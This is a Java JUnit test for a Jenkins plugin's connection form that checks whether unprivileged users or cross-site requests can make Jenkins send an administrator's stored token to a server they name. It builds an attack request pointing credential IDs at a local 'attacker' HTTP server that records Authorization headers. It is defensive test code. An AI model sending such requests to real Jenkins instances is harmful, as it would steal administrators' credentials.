package io.jenkins.plugins.aikido;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import hudson.model.FreeStyleProject;
import hudson.model.Item;
import io.jenkins.plugins.aikido.connection.Connection;
import io.jenkins.plugins.aikido.step.AikidoConnectStep;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import jenkins.model.Jenkins;
import org.htmlunit.WebResponse;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.jvnet.hudson.test.JenkinsRule;
import org.jvnet.hudson.test.MockAuthorizationStrategy;
import org.jvnet.hudson.test.junit.jupiter.WithJenkins;

/**
 * The attack that other plugins suffered: a user without rights names a server of his own and the id of an
 * administrator's credential, and Jenkins sends it there.
 */
@WithJenkins
class CredentialCaptureTest {

    private static final String TEST_CONNECTION = "descriptorByName/" + Connection.class.getName() + "/testConnection";
    private static final String PROJECTS =
            "descriptorByName/" + AikidoConnectStep.class.getName() + "/fillProjectItems";
    private static final String CAPTURED = "captured-token-marker";

    private final List<String> received = new CopyOnWriteArrayList<>();
    private HttpServer attacker;

    @BeforeEach
    void listen() throws Exception {
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        attacker.createContext("/", exchange -> {
            received.add(exchange.getRequestURI() + " "
                    + exchange.getRequestHeaders().getFirst("Authorization"));
            exchange.sendResponseHeaders(500, -1);
            exchange.close();
        });
        attacker.start();
    }

    @AfterEach
    void stop() {
        attacker.stop(0);
    }

    @Test
    void nobodyButAnAdministratorMakesJenkinsSendACredential(JenkinsRule jenkins) throws Exception {
        FreeStyleProject job = prepare(jenkins);

        for (Visitor visitor : List.of(
                Visitor.anonymous(jenkins), Visitor.named(jenkins, "reader"), Visitor.named(jenkins, "configurer"))) {
            for (String place : List.of("", job.getUrl())) {
                assertThat(visitor.post(place + TEST_CONNECTION, attack()).getStatusCode())
                        .isIn(401, 403, 404);
                assertThat(visitor.get(place + TEST_CONNECTION, attack()).getStatusCode())
                        .isIn(401, 403, 404, 405);
                visitor.post(place + PROJECTS, attack());
            }
        }

        assertThat(received).isEmpty();
    }

    @Test
    void anAdministratorsBrowserCannotBeMadeToSendItByAnotherSite(JenkinsRule jenkins) throws Exception {
        prepare(jenkins);

        WebResponse answer = Visitor.named(jenkins, "administrator").postWithoutCrumb(TEST_CONNECTION, attack());

        assertThat(answer.getStatusCode()).isEqualTo(403);
        assertThat(received).isEmpty();
    }

    @Test
    void theAttackersServerWouldNoticeTheCredential(JenkinsRule jenkins) throws Exception {
        prepare(jenkins);

        WebResponse answer = Visitor.named(jenkins, "administrator").post(TEST_CONNECTION, attack());

        assertThat(answer.getStatusCode()).isEqualTo(200);
        // It does not have the shape of a personal access token, so it is tried as a bearer token first.
        assertThat(received).anyMatch(request -> request.endsWith(" Bearer " + CAPTURED));
    }

    private FreeStyleProject prepare(JenkinsRule jenkins) throws Exception {
        Administrator.addsCredentials(CAPTURED, "client", "captured-client-marker");
        Connection others = new Connection("others", "contoso", Administrator.TOKEN_ID, Administrator.CLIENT_ID);
        others.setAzureUrl(url());
        others.setAikidoUrl(url());
        others.setJobs("team-b/**");
        Administrator.saves(others);
        FreeStyleProject job = jenkins.createFreeStyleProject("job");
        jenkins.jenkins.setSecurityRealm(jenkins.createDummySecurityRealm());
        jenkins.jenkins.setAuthorizationStrategy(new MockAuthorizationStrategy()
                .grant(Jenkins.ADMINISTER)
                .everywhere()
                .to("administrator")
                .grant(Jenkins.READ, Item.READ)
                .everywhere()
                .to("reader")
                .grant(Jenkins.READ, Item.READ, Item.CONFIGURE, Item.CREATE, Item.BUILD)
                .everywhere()
                .to("configurer"));
        return job;
    }

    private Map<String, String> attack() {
        return Map.of(
                "connection",
                "others",
                "name",
                "others",
                "organization",
                "contoso",
                "tokenCredentialsId",
                Administrator.TOKEN_ID,
                "clientCredentialsId",
                Administrator.CLIENT_ID,
                "azureUrl",
                url(),
                "aikidoUrl",
                url());
    }

    private String url() {
        return "http://127.0.0.1:" + attacker.getAddress().getPort() + "/tfs";
    }
}
